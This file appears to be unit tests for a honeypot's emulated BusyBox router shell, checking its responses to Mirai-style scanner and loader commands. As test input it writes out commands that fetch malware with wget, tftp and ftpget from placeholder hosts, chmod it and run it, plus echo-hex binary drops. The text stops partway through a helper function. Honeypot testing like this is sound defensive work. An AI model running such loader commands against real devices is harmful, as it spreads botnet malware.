/* test_sh.c — the emulated BusyBox shell against what Mirai-family loaders
 * and scanners type (see ATTACKS.md §2). Exact output bytes are asserted. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "acct.h"
#include "bounds.h"
#include "buf.h"
#include "config.h"
#include "persona/persona.h"
#include "sh/sh.h"
#include "sh/vfs.h"

/* ------------------------------------------------------------------ */
/* fake host                                                           */

#define MAX_EV 2048

struct ev {
	enum sh_event ev;
	char *input, *url, *outfile, *applet, *reason;
	uint8_t *data;
	size_t len;
	int status;
};

struct host {
	struct buf out;
	unsigned pauses[8];
	size_t pause_at[8];
	int npause;
	struct ev ev[MAX_EV];
	int nev;
	int64_t now;
	/* downloads the shell waits for (h_fetch) */
	int fetch_rc;
	int nfetch;
	char f_url[512], f_applet[16], f_outfile[256], f_user[64], f_pass[64];
};

static char *dupn(const char *p, size_t n)
{
	char *s = malloc(n + 1);

	assert_non_null(s);
	memcpy(s, p, n);
	s[n] = '\0';
	return s;
}

static void h_out(void *ctx, const void *p, size_t n)
{
	struct host *h = ctx;

	assert_int_equal(buf_add(&h->out, p, n), 0);
}

static void h_pause(void *ctx, unsigned ms)
{
	struct host *h = ctx;

	if (h->npause < 8) {
		h->pauses[h->npause] = ms;
		h->pause_at[h->npause++] = h->out.len;
	}
}

static void h_event(void *ctx, enum sh_event ev, const struct sh_event_info *i)
{
	struct host *h = ctx;
	struct ev *e;

	if (h->nev >= MAX_EV)
		return;
	e = &h->ev[h->nev++];
	memset(e, 0, sizeof *e);
	e->ev = ev;
	if (i->input)
		e->input = dupn(i->input, i->input_len);
	if (i->url)
		e->url = dupn(i->url, strlen(i->url));
	if (i->outfile)
		e->outfile = dupn(i->outfile, strlen(i->outfile));
	if (i->applet)
		e->applet = dupn(i->applet, strlen(i->applet));
	if (i->reason)
		e->reason = dupn(i->reason, strlen(i->reason));
	if (i->data) {
		e->data = malloc(i->len ? i->len : 1);
		assert_non_null(e->data);
		memcpy(e->data, i->data, i->len);
		e->len = i->len;
	}
	e->status = i->status;
}

static int h_fetch(void *ctx, const struct sh_event_info *i)
{
	struct host *h = ctx;

	h->nfetch++;
	snprintf(h->f_url, sizeof h->f_url, "%s", i->url ? i->url : "");
	snprintf(h->f_applet, sizeof h->f_applet, "%s", i->applet ? i->applet : "");
	snprintf(h->f_outfile, sizeof h->f_outfile, "%s", i->outfile ? i->outfile : "");
	snprintf(h->f_user, sizeof h->f_user, "%s", i->user ? i->user : "");
	snprintf(h->f_pass, sizeof h->f_pass, "%s", i->pass ? i->pass : "");
	return h->fetch_rc;
}

static int64_t h_now(void *ctx)
{
	return ((struct host *)ctx)->now;
}

static void host_clear(struct host *h)
{
	int i;

	for (i = 0; i < h->nev; i++) {
		free(h->ev[i].input);
		free(h->ev[i].url);
		free(h->ev[i].outfile);
		free(h->ev[i].applet);
		free(h->ev[i].reason);
		free(h->ev[i].data);
	}
	h->nev = 0;
	h->npause = 0;
	buf_reset(&h->out);
}

static int count_ev(const struct host *h, enum sh_event ev)
{
	int i, n = 0;

	for (i = 0; i < h->nev; i++)
		n += h->ev[i].ev == ev;
	return n;
}

static const struct ev *find_ev(const struct host *h, enum sh_event ev)
{
	int i;

	for (i = 0; i < h->nev; i++)
		if (h->ev[i].ev == ev)
			return &h->ev[i];
	return NULL;
}

/* ------------------------------------------------------------------ */
/* a persona built by hand                                             */

static const char mounts[] = "rootfs / rootfs rw 0 0\n"
			     "/dev/root / squashfs ro,relatime 0 0\n"
			     "proc /proc proc rw,relatime 0 0\n"
			     "tmpfs /dev tmpfs rw,relatime 0 0\n"
			     "tmpfs /var tmpfs rw,relatime 0 0\n"
			     "/dev/mtdblock3 /mnt/mtd jffs2 rw,relatime 0 0\n";

static const char cpuinfo[] = "system type\t\t: MT7620\ncpu model\t\t: MIPS 24KEc V5.0\n";
static const char meminfo[] =
    "MemTotal:          28616 kB\nMemFree:            6136 kB\nBuffers:            2024 kB\n";

static char *applet_names[] = {"[",	"ash",	 "busybox", "cat",  "chmod", "cp",    "dd", "df",
			       "echo",	"free",	 "ftpget",  "grep", "head",  "kill",  "ls", "mkdir",
			       "mount", "mv",	 "ps",	    "rm",   "sh",    "sleep", "su", "tftp",
			       "touch", "uname", "wc",	    "wget", "which"};

static char *procs[] = {
    "root      1524 S    init",
    "root         0 SW<  [kthreadd]",
    "root         0 SW<  [ksoftirqd/0]",
    "root      1520 S    /sbin/syslogd",
    "root      1524 S    /usr/sbin/telnetd",
};

struct fixture {
	struct persona p;
	struct persona_file files[8];
	struct persona_clicmd cli[3];
	uint8_t elf[300];
	struct host h;
	struct sh *sh;
	struct persona *loaded;
};

static void pstr(struct pstr *s, const char *v)
{
	s->p = (char *)v;
	s->n = strlen(v);
}

static void file(struct persona_file *f, const char *path, const char *data, unsigned mode)
{
	memset(f, 0, sizeof *f);
	f->path = (char *)path;
	f->mode = mode;
	if (data)
		pstr(&f->data, data);
	f->mtime = 1500000000;
}

static void build_persona(struct fixture *fx)
{
	struct persona *p = &fx->p;
	size_t i;

	memset(p, 0, sizeof *p);
	p->name = "test";
	p->hostname = "router";
	pstr(&p->prompt_root, "[root@%h %w]# ");
	pstr(&p->prompt_user, "$ ");
	pstr(&p->motd, "Welcome\n");
	pstr(&p->shell_banner, "");
	p->busybox_version = "v1.16.1 (2013-07-30 10:31:49 CST)";
	p->applets = applet_names;
	p->napplets = sizeof applet_names / sizeof applet_names[0];
	p->uname_s = "Linux";
	p->uname_r = "2.6.36";
	p->uname_v = "#1 Fri Jan 1 00:00:00 CST 2016";
	p->uname_m = "mips";
	p->procs = procs;
	p->nprocs = sizeof procs / sizeof procs[0];
	p->ps_header = "  PID USER       VSZ STAT COMMAND";
	p->su_password = "zyad5001";
	file(&fx->files[0], "/bin", NULL, S_IFDIR | 0755);
	file(&fx->files[1], "/dev", NULL, S_IFDIR | 0755);
	file(&fx->files[2], "/etc/passwd", "root:x:0:0:root:/:/bin/sh\n", S_IFREG | 0644);
	file(&fx->files[3], "/proc/cpuinfo", cpuinfo, S_IFREG | 0444);
	file(&fx->files[4], "/proc/meminfo", meminfo, S_IFREG | 0444);
	file(&fx->files[5], "/proc/mounts", mounts, S_IFREG | 0444);
	file(&fx->files[6], "/tmp", NULL, S_IFLNK | 0777);
	fx->files[6].target = "/var/tmp";
	file(&fx->files[7], "/var/tmp", NULL, S_IFDIR | 0755);
	p->files = fx->files;
	p->nfiles = 8;
	/* a MIPS little-endian ELF-looking image */
	for (i = 0; i < sizeof fx->elf; i++)
		fx->elf[i] = (uint8_t)(i * 7 + 3);
	memcpy(fx->elf,
	       "\x7f"
	       "ELF\x01\x01\x01",
	       7);
	fx->elf[18] = 8;
	fx->elf[19] = 0;
	p->busybox = fx->elf;
	p->busybox_len = sizeof fx->elf;
	p->elf.ei_class = 1;
	p->elf.ei_data = 1;
	p->elf.e_machine = 8;
	p->boot_time = 1700000000;
	p->pid_base = 400;
	p->pid_next = 1201;
}

static struct sh *new_shell(struct fixture *fx, const struct persona *p, bool root)
{
	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL,
			     NULL,   NULL,  NULL,    NULL,    NULL};

	fx->sh = sh_new(p, &hh, root);
	assert_non_null(fx->sh);
	return fx->sh;
}

/* A shell whose host fetches: lines wait for sh_fetch_done(). */
static struct sh *new_fetch_shell(struct fixture *fx)
{
	struct sh_host hh = {&fx->h,  h_out, h_pause, h_event, h_now, NULL,
			     h_fetch, NULL,  NULL,    NULL,    NULL};

	fx->h.fetch_rc = 1;
	fx->sh = sh_new(&fx->p, &hh, true);
	assert_non_null(fx->sh);
	return fx->sh;
}

static int setup(void **state)
{
	struct fixture *fx = calloc(1, sizeof *fx);

	if (!fx)
		return -1;
	build_persona(fx);
	buf_init(&fx->h.out, 8u * 1024 * 1024);
	fx->h.now = 1700000000 + 3 * 86400 + 3600;
	*state = fx;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *fx = *state;

	sh_free(fx->sh);
	if (fx->loaded)
		persona_free(fx->loaded);
	host_clear(&fx->h);
	buf_free(&fx->h.out);
	free(fx);
	assert_int_equal(sh_fs_default()->total, 0);
	return 0;
}

/* Runs a line and returns the output (valid until the next call). */
static const char *run(struct fixture *fx, const char *line)
{
	buf_reset(&fx->h.out);
	sh_line(fx->sh, line, strlen(line));
	return fx->h.out.p ? fx->h.out.p : "";
}

#define RUN_EQ(fx, line, want) assert_string_equal(run(fx, line), want)

/* ------------------------------------------------------------------ */
/* tests                                                               */

static void t_scanner(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	sh_start(fx->sh);
	assert_string_equal(fx->h.out.p, "Welcome\n[root@router /]# ");
	RUN_EQ(fx, "enable", "-sh: enable: not found\n[root@router /]# ");
	RUN_EQ(fx, "system", "-sh: system: not found\n[root@router /]# ");
	RUN_EQ(fx, "shell", "-sh: shell: not found\n[root@router /]# ");
	RUN_EQ(fx, "linuxshell", "-sh: linuxshell: not found\n[root@router /]# ");
	RUN_EQ(fx, "sh", "[root@router /]# ");
	RUN_EQ(fx, "/bin/busybox MIRAI", "MIRAI: applet not found\n[root@router /]# ");
	RUN_EQ(fx, "busybox SATORI", "SATORI: applet not found\n[root@router /]# ");
	assert_int_equal(count_ev(&fx->h, SH_EV_NOTFOUND), 4);
	assert_int_equal(count_ev(&fx->h, SH_EV_COMMAND), 7);
	/* exit leaves the nested sh, then the session */
	RUN_EQ(fx, "exit", "[root@router /]# ");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_SHELL);
	RUN_EQ(fx, "exit", "");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
}

/* kill 0: the applet run as a process dies alone in its job (ash prints
 * strsignal); the builtin kills the interactive shell's own group */
static void t_kill_group(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	RUN_EQ(fx, "/bin/busybox kill -9 0; echo $?; busybox kill -HUP 0; busybox kill 0",
	       "Killed\n137\nHangup\nTerminated\n[root@router /]# ");
	RUN_EQ(fx, "kill 0; kill -s INT 0; echo alive", "alive\n[root@router /]# ");
	RUN_EQ(fx, "sh", "[root@router /]# ");
	RUN_EQ(fx, "kill -9 0; echo not here", "[root@router /]# ");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_SHELL);
	RUN_EQ(fx, "kill -KILL 0", "");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
}

static void t_mounts_nippon(void **state)
{
	struct fixture *fx = *state;
	char want[1024];

	new_shell(fx, &fx->p, true);
	snprintf(want, sizeof want, "%sECCHI: applet not found\n[root@router /]# ", mounts);
	RUN_EQ(fx, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", want);
	RUN_EQ(
	    fx,
	    "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon",
	    "kami/dev\n[root@router /]# ");
	RUN_EQ(
	    fx,
	    "echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; cat /var/.nippon; rm /var/.nippon",
	    "kami/var\n[root@router /]# ");
	RUN_EQ(fx,
	       "echo -e '\\x6b\\x61\\x6d\\x69/mnt/mtd' > /mnt/mtd/.nippon; /bin/busybox cat "
	       "/mnt/mtd/.nippon; /bin/busybox rm /mnt/mtd/.nippon",
	       "kami/mnt/mtd\n[root@router /]# ");
	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/' > //.nippon; cat //.nippon; rm //.nippon",
	       "-sh: can't create //.nippon: Read-only file system\n"
	       "cat: can't open '//.nippon': No such file or directory\n"
	       "rm: can't remove '//.nippon': No such file or directory\n"
	       "[root@router /]# ");
	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/proc' > /proc/.nippon",
	       "-sh: can't create /proc/.nippon: nonexistent directory\n[root@router /]# ");
	RUN_EQ(fx, "echo x > /etc/passwd",
	       "-sh: can't create /etc/passwd: Read-only file system\n[root@router /]# ");
	run(fx, "mount");
	assert_memory_equal(fx->h.out.p, mounts, strlen(mounts));
	/* /tmp is a symlink into /var */
	RUN_EQ(fx, "echo hi > /tmp/x; cat /var/tmp/x", "hi\n[root@router /]# ");
}

static void t_cp_chmod_cat_echo(void **state)
{
	struct fixture *fx = *state;
	const char *out;
	size_t plen = strlen("[root@router /var]# ");

	new_shell(fx, &fx->p, true);
	RUN_EQ(fx, "cd /var/", "[root@router /var]# ");
	RUN_EQ(fx, "cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper",
	       "[root@router /var]# ");
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
	RUN_EQ(fx, "ls -l dvrHelper",
	       "-rwxrwxrwx    1 root     root             0 Nov 17 23:13 dvrHelper\n[root@router "
	       "/var]# ");
	out = run(fx, "/bin/busybox cat /bin/echo; /bin/busybox ECCHI");
	assert_int_equal(fx->h.out.len, sizeof fx->elf + 24 + plen);
	assert_memory_equal(out, fx->elf, sizeof fx->elf);
	assert_string_equal(out + sizeof fx->elf, "ECCHI: applet not found\n[root@router /var]# ");
	assert_int_equal(fx->h.npause, 1);
	assert_int_equal(fx->h.pauses[0], 100);
	assert_int_equal(fx->h.pause_at[0], 52);
	/* dd variant: just the header, no pause needed */
	fx->h.npause = 0;
	out = run(fx, "dd bs=52 count=1 if=/bin/busybox || cat /bin/busybox");
	assert_memory_equal(out, fx->elf, 52);
	assert_string_equal(out + 52, "1+0 records in\n1+0 records out\n[root@router /var]# ");
	/* ECHODONE */
	RUN_EQ(fx,
	       "echo -en '\\x41\\x42' > .x && echo -en '\\x45\\x43\\x48\\x4f\\x44\\x4f\\x4e\\x45'",
	       "ECHODONE[root@router /var]# ");
	RUN_EQ(fx, "echo 'abc\\c'", "abc\\c\n[root@router /var]# ");
	RUN_EQ(fx, "echo -e 'abc\\cdef'; echo", "abc\n[root@router /var]# ");
	RUN_EQ(fx, "echo -n hi; echo -ne '\\0101\\n'", "hiA\n[root@router /var]# ");
}

static void t_echo_rebuild(void **state)
{
	struct fixture *fx = *state;
	uint8_t bin[1000];
	char line[4096];
	size_t i, off;
	const struct ev *e;

	for (i = 0; i < sizeof bin; i++)
		bin[i] = (uint8_t)(i * 131 + 7);
	bin[0] = 0x7f;
	bin[1] = 0x00;
	bin[2] = 0xff;
	bin[3] = '\'';
	new_shell(fx, &fx->p, true);
	run(fx, "cd /dev");
	for (off = 0; off < sizeof bin; off += 128) {
		size_t n = sizeof bin - off < 128 ? sizeof bin - off : 128, k = 0;

		k += (size_t)snprintf(line + k, sizeof line - k, "echo -ne '");
		for (i = 0; i < n; i++)
			k += (size_t)snprintf(line + k, sizeof line - k, "\\x%02x", bin[off + i]);
		snprintf(line + k, sizeof line - k, "' %s upnp; /bin/busybox ECCHI",
			 off ? ">>" : ">");
		RUN_EQ(fx, line, "ECCHI: applet not found\n[root@router /dev]# ");
	}
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
	RUN_EQ(fx, "./upnp; ./dvrHelper telnet.mpsl; /bin/busybox IHCCE",
	       "-sh: ./upnp: Permission denied\n-sh: ./dvrHelper: not found\n"
	       "IHCCE: applet not found\n[root@router /dev]# ");
	e = find_ev(&fx->h, SH_EV_CAPTURE);
	assert_non_null(e);
	assert_string_equal(e->reason, "exec");
	assert_string_equal(e->outfile, "/dev/upnp");
	assert_int_equal(e->len, sizeof bin);
	assert_memory_equal(e->data, bin, sizeof bin);
	/* unchanged: not captured again, by exec, chmod or at the end */
	run(fx, "./upnp; chmod +x upnp; ./upnp");
	sh_end(fx->sh);
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 1);
	/* changed, then chmod'ed: captured with reason chmod */
	run(fx, "echo -n more >> upnp; chmod 755 upnp");
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 2);
	assert_string_equal(fx->h.ev[fx->h.nev - 1].reason, "chmod");
	/* a file nobody ran: captured at session end */
	run(fx, "echo payload > /var/other; echo -n > /var/empty");
	sh_end(fx->sh);
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 3);
	assert_string_equal(fx->h.ev[fx->h.nev - 1].reason, "session_end");
	assert_string_equal(fx->h.ev[fx->h.nev - 1].outfile, "/var/other");
}

static void t_exec_elf(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	run(fx, "cd /var; cp /bin/busybox b; chmod 777 b");
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0); /* our own image */
	RUN_EQ(fx, "./b; echo $?", "0\n[root@router /var]# ");
	RUN_EQ(fx,
	       "echo -ne "
	       "'\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\"
	       "x00\\x02\\x00\\x28' > a; chmod +x a; ./a",
	       /* another CPU: ENOEXEC, and ash reads the file as a script
		* (NULs deleted), named with its line: real ash 1.35
		* (build/oracle) prints exactly this */
	       "./a: line 1: syntax error: unexpected end of file (expecting \")\")\n"
	       "[root@router /var]# ");
	RUN_EQ(fx, "echo 'echo from script $1' > s.sh; chmod +x s.sh; ./s.sh arg; sh s.sh two",
	       "from script arg\nfrom script two\n[root@router /var]# ");
}

static void t_while_read_dd(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	run(fx, "cd /var");
	/* printf is an ash builtin (`help` lists it): its usage, as 1.35's */
	RUN_EQ(fx, "printf; echo -ne 'abc\\ndef\\n' > .s",
	       "sh: usage: printf FORMAT [ARGUMENT...]\n[root@router /var]# ");
	RUN_EQ(fx, "while read i; do echo $i; done < .s", "abc\ndef\n[root@router /var]# ");
	RUN_EQ(fx, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
	       "abc\ndef\n0+1 records in\n0+1 records out\n[root@router /var]# ");
	RUN_EQ(fx, "dd if=.nope bs=22 count=1 || while read i; do echo \"<$i>\"; done < .s",
	       "dd: can't open '.nope': No such file or directory\n<abc>\n<def>\n[root@router "
	       "/var]# ");
	RUN_EQ(fx, "cat .s | grep def; cat .s | wc -l; wc -c .s",
	       "def\n2\n8 .s\n[root@router /var]# ");
	/* BusyBox wc.c: one count and at most one FILE bare (1.16.1 on), else
	 * "%9u" columns and a total line for several FILEs */
	RUN_EQ(fx, "wc -l .s .s; wc -lc .s",
	       "        2 .s\n        2 .s\n        4 total\n        2         8 .s\n"
	       "[root@router /var]# ");
	/* df.c: -h says "     Size" and prints N.FU (make_human_readable_str) */
	RUN_EQ(fx, "df -h | head -1; df -m | head -1",
	       "Filesystem                Size      Used Available Use% Mounted on\n"
	       "Filesystem           1M-blocks      Used Available Use% Mounted on\n"
	       "[root@router /var]# ");
	RUN_EQ(fx, "head -n 1 .s; head -c 2 .s; echo", "abc\nab\n[root@router /var]# ");
	/* multi-line constructs continue with PS2 */
	RUN_EQ(fx, "while read i", "> ");
	RUN_EQ(fx, "do echo x$i", "> ");
	RUN_EQ(fx, "done < .s", "xabc\nxdef\n[root@router /var]# ");
	RUN_EQ(fx, "for f in a b; do echo $f; done", "a\nb\n[root@router /var]# ");
	RUN_EQ(fx, "if [ -f .s ]; then echo yes; else echo no; fi", "yes\n[root@router /var]# ");
	RUN_EQ(fx, "echo 'unterminated", "> ");
	RUN_EQ(fx, "x'", "unterminated\nx\n[root@router /var]# ");
}

static void t_andor_status(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	RUN_EQ(fx, "false || echo a && echo b", "a\nb\n[root@router /]# ");
	RUN_EQ(fx, "nosuch && echo x || echo y", "-sh: nosuch: not found\ny\n[root@router /]# ");
	RUN_EQ(fx, "false; echo $?", "1\n[root@router /]# ");
	RUN_EQ(fx, "nosuch 2>/dev/null; echo $?", "127\n[root@router /]# ");
	RUN_EQ(fx, "cat /nope 2>&1 | wc -l", "1\n[root@router /]# ");
	RUN_EQ(fx, "X=hello; echo \"$X world\" '$X' `echo bq` $(echo dollar)",
	       "hello world $X bq dollar\n[root@router /]# ");
	RUN_EQ(fx, "echo a\\ b \"c  d\"", "a b c  d\n[root@router /]# ");
	RUN_EQ(fx, "cd /nope", "-sh: cd: can't cd to /nope\n[root@router /]# ");
	RUN_EQ(fx, "echo x; done", "-sh: syntax error: unexpected \"done\"\n[root@router /]# ");
	RUN_EQ(fx, "ls /var", "tmp\n[root@router /]# ");
	RUN_EQ(fx, "cd /var && mkdir d && cd d && pwd", "/var/d\n[root@router /var/d]# ");
	RUN_EQ(fx, "cd /var; touch a b c; ls; echo *",
	       "a    b    c    d    tmp\na b c d tmp\n[root@router /var]# ");
	RUN_EQ(fx, "which cat wget nosuch; echo $?",
	       "/bin/cat\n/bin/wget\n1\n[root@router /var]# ");
}

/* Issue 12: parse_*() may realloc ps->nodes; a compound's body must survive
 * the growth (GCC computed &ps->nodes[ni] before the call: use-after-free
 * under ASan, a lost body in release). Each line grows the node array past
 * 16, 32 and 64 entries while a compound is open. */
static void t_nodes_grow(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	RUN_EQ(fx,
	       "if false; then :; elif false; then :; elif false; then :; "
	       "elif false; then :; elif false; then :; elif false; then :; "
	       "elif true; then echo X; fi",
	       "X\n[root@router /]# ");
	RUN_EQ(fx,
	       "echo $(if false; then :; elif false; then :; elif false; then :; "
	       "elif false; then :; elif false; then :; elif false; then :; "
	       "elif true; then echo Y; fi)",
	       "Y\n[root@router /]# ");
	RUN_EQ(fx, "( : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; echo S )",
	       "S\n[root@router /]# ");
	RUN_EQ(fx, "{ : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; echo G; }",
	       "G\n[root@router /]# ");
	RUN_EQ(fx, "for i in 1 2; do : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; echo $i; done",
	       "1\n2\n[root@router /]# ");
	RUN_EQ(fx,
	       "while false; do :; done; true && : && : && : && : && : && : && : && : && : && : && "
	       "echo A",
	       "A\n[root@router /]# ");
	RUN_EQ(fx,
	       "echo P | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | "
	       "cat | cat | cat | cat | cat",
	       "P\n[root@router /]# ");
}

/* Issue 12: every byte a line causes is charged to the session's memory
 * account and the global one above it; at a cap the command fails with
 * ash's "out of memory" and every byte comes back after the line. */
static void t_budget_memory(void **state)
{
	struct fixture *fx = *state;
	struct acct global, mem;
	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL,
			     NULL,   NULL,  &mem,    NULL,    NULL};
	static uint8_t big[600 * 1024], word[16 * 1024];
	char line[4096];
	const char *out;
	size_t base, i, n;

	acct_init(&global, CAP_MEM_TOTAL, NULL);
	acct_init(&mem, CAP_MEM_SESSION, &global);
	fx->sh = sh_new(&fx->p, &hh, true);
	assert_non_null(fx->sh);
	memset(big, 'x', sizeof big);
	memset(word, 'w', sizeof word);
	assert_int_equal(sh_fetch_store(fx->sh, "/var/b", big, sizeof big), 0);
	assert_int_equal(sh_fetch_store(fx->sh, "/var/w", word, sizeof word), 0);
	base = mem.used;

	/* 256 redirections from a 600 KB file the session wrote: copies,
	 * charged; the third one does not fit */
	n = (size_t)snprintf(line, sizeof line, "wc -c");
	for (i = 0; i < 256; i++)
		n += (size_t)snprintf(line + n, sizeof line - n, "<b");
	RUN_EQ(fx, "cd /var", "[root@router /var]# ");
	out = run(fx, line);
	assert_string_equal(out, "-sh: out of memory\n[root@router /var]# ");
	assert_true(mem.peak <= CAP_MEM_SESSION);
	assert_int_equal(mem.used, base);
	assert_int_equal(global.used, base);
	RUN_EQ(fx, "echo $?", "2\n[root@router /var]# ");

	/* the same from the image's file: read in place, nothing copied */
	n = (size_t)snprintf(line, sizeof line, "wc -c");
	for (i = 0; i < 256; i++)
		n += (size_t)snprintf(line + n, sizeof line - n, "</bin/busybox");
	(void)n;
	out = run(fx, line);
	assert_string_equal(out, "300\n[root@router /var]# ");
	assert_int_equal(mem.used, base);

	/* 1024 words of 16 KB in one argument list */
	RUN_EQ(fx, "v=$(cat w)", "[root@router /var]# ");
	n = (size_t)snprintf(line, sizeof line, "echo");
	for (i = 0; i < 1000; i++)
		n += (size_t)snprintf(line + n, sizeof line - n, " $v");
	out = run(fx, line);
	assert_non_null(strstr(out, "-sh: out of memory\n"));
	assert_true(mem.peak <= CAP_MEM_SESSION);
	assert_int_equal(mem.used, base + 0 * 1);
	RUN_EQ(fx, "echo ok", "ok\n[root@router /var]# ");

	/* a global account smaller than the session's refuses first */
	sh_free(fx->sh);
	fx->sh = NULL;
	assert_int_equal(global.used, 0);
	acct_init(&global, 256 * 1024, NULL);
	acct_init(&mem, CAP_MEM_SESSION, &global);
	fx->sh = sh_new(&fx->p, &hh, true);
	assert_int_equal(sh_fetch_store(fx->sh, "/var/b", big, sizeof big), 0);
	RUN_EQ(fx, "cd /var; wc -c <b", "-sh: out of memory\n[root@router /var]# ");
	assert_true(global.refused > 0);
	assert_true(global.peak <= 256 * 1024);
	/* the accounts are this function's: the shell must not outlive them */
	sh_free(fx->sh);
	fx->sh = NULL;
	assert_int_equal(global.used, 0);
}

/* Issue 12: work is charged per byte scanned, read or written and per
 * command and loop turn; a line past CAP_SH_WORK_LINE ends as a killed job
 * and the session ends past CAP_SH_WORK_SESSION. */
static void t_budget_work(void **state)
{
	struct fixture *fx = *state;
	static uint8_t big[600 * 1024];
	int i;

	new_shell(fx, &fx->p, true);
	memset(big, 'x', sizeof big);
	assert_int_equal(sh_fetch_store(fx->sh, "/var/b", big, sizeof big), 0);
	RUN_EQ(fx, "cd /var", "[root@router /var]# ");
	RUN_EQ(fx, "while :; do cat b b b b >/dev/null; done; echo never",
	       "Killed\n[root@router /var]# ");
	RUN_EQ(fx, "echo $?", "137\n[root@router /var]# ");
	/* an ordinary heavy line is not touched */
	RUN_EQ(fx, "cat b b b b >/dev/null; echo done", "done\n[root@router /var]# ");
	for (i = 0; i < 200 && sh_mode(fx->sh) != SH_MODE_DONE; i++) {
		const char *out = run(fx, "while :; do cat b >/dev/null; done");

		if (sh_mode(fx->sh) == SH_MODE_DONE)
			assert_string_equal(out, "Killed\n"); /* no prompt: the shell is gone */
		else
			assert_string_equal(out, "Killed\n[root@router /var]# ");
	}
	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
	assert_true(i >= (int)(CAP_SH_WORK_SESSION / CAP_SH_WORK_LINE) / 2);
	assert_true(i <= (int)(CAP_SH_WORK_SESSION / CAP_SH_WORK_LINE) + 1);
}

static void t_fetch(void **state)
{
	struct fixture *fx = *state;
	const char *out;
	const struct ev *e;

	new_shell(fx, &fx->p, true);
	run(fx, "cd /var");
	out = run(fx, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
	assert_non_null(strstr(
	    out, "BusyBox v1.16.1 (2013-07-30 10:31:49 CST) multi-call binary.\n\nUsage: wget "));
	assert_non_null(strstr(out, "Usage: tftp "));
	assert_null(strstr(out, "wget: applet not found"));
	assert_null(strstr(out, "tftp: applet not found"));
	assert_non_null(strstr(out, "ECCHI: applet not found\n"));
	host_clear(&fx->h);
	RUN_EQ(fx,
	       "/bin/busybox wget http://1.2.3.4:8080/bins/mirai.mips -O - > dvrHelper; "
	       "/bin/busybox chmod 777 dvrHelper",
	       "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\n"
	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n"
	       "[root@router /var]# ");
	e = find_ev(&fx->h, SH_EV_FETCH);
	assert_non_null(e);
	assert_string_equal(e->applet, "wget");
	assert_string_equal(e->url, "http://1.2.3.4:8080/bins/mirai.mips");
	assert_string_equal(e->outfile, "/var/dvrHelper");
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
	host_clear(&fx->h);
	RUN_EQ(fx, "wget http://evil.example/x.sh",
	       "wget: bad address 'evil.example'\n[root@router /var]# ");
	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->outfile, "/var/x.sh");
	host_clear(&fx->h);
	/* no fetcher: a device with no route (xsendto's perror) */
	RUN_EQ(fx, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm 10.0.0.9 6969",
	       "tftp: sendto: Network is unreachable\n[root@router /var]# ");
	e = find_ev(&fx->h, SH_EV_FETCH);
	assert_string_equal(e->url, "tftp://10.0.0.9:6969/mirai.arm");
	assert_string_equal(e->outfile, "/var/dvrHelper");
	host_clear(&fx->h);
	run(fx, "tftp -r x.sh -g 10.0.0.9");
	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->url, "tftp://10.0.0.9/x.sh");
	host_clear(&fx->h);
	run(fx, "wget -g http://5.6.7.8 -l /var/f -r /mips");
	e = find_ev(&fx->h, SH_EV_FETCH);
	assert_string_equal(e->url, "http://5.6.7.8/mips");
	assert_string_equal(e->outfile, "/var/f");
	host_clear(&fx->h);
	run(fx, "ftpget -u anonymous -p x 9.9.9.9 f.sh bins/f.sh");
	e = find_ev(&fx->h, SH_EV_FETCH);
	assert_string_equal(e->url, "ftp://9.9.9.9/bins/f.sh");
	assert_string_equal(e->outfile, "/var/f.sh");
	/* curl is not in this persona */
	RUN_EQ(fx, "curl http://1.2.3.4/x", "-sh: curl: not found\n[root@router /var]# ");
	RUN_EQ(fx, "/bin/busybox curl", "curl: applet not found\n[root@router /var]# ");
}

/* Ends the waited-for download and returns what the shell printed. */
static const char *done_ok(struct fixture *fx, const char *data, unsigned ms)
{
	struct sh_fetch_result r;

	memset(&r, 0, sizeof r);
	r.ok = true;
	r.data = (const uint8_t *)data;
